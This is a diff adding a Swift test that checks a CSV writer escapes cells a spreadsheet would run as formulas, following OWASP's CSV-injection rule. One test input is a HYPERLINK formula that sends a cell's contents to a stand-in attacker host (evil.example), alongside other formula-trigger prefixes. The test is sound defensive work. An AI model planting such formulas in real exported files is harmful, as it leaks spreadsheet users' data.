@@ -88,6 +88,17 @@ import Testing
         #expect(CSVWriter.line(["a", "b,c", "say \"x\"", "1\n2"]) == "a,\"b,c\",\"say \"\"x\"\"\",\"1\n2\"\r\n")
     }
 
+    /// OWASP's rule for CSV injection: a text cell a spreadsheet would run as a formula gets a leading
+    /// `'`; plain numbers (negative amounts) stay numbers.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("\r=1", "\"'\r=1\""),
+        ("-12.30", "-12.30"), ("+5", "+5"), ("-", "'-"), ("-.5", "'-.5"), ("-1.", "'-1."), ("INV-1", "INV-1"), ("上海=", "上海="),
+    ])
+    func csvCellsCannotRunAsFormulas(value: String, written: String) {
+        #expect(CSVWriter.field(value) == written)
+    }
+
     @Test func jsonEscapesAndKeepsKeyOrder() {
         let value = JSONText.object([("z", .string("a\"b\\c\n")), ("a", .array([.int(1), .null, .bool(true)]))])
         #expect(value.render() == "{\"z\": \"a\\\"b\\\\c\\n\", \"a\": [1, null, true]}")
